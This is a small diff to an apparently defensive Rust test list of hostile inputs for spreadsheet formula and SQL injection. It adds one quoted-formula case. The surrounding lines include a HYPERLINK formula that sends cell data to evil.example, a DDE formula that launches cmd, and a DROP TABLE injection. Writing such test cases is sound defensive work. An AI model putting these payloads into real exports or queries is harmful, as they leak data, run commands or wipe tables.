@@ -43,6 +43,7 @@ fn hostile() -> Vec<String> {
         "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
         "=DDE(\"cmd\";\"/C calc\";\"x\")",
         "harmless;=1+1;@x",
+        "harmless;\"=1+1\"",
         "\"=1\"",
         "\",=1,\"",
         "'; DROP TABLE usage; --",
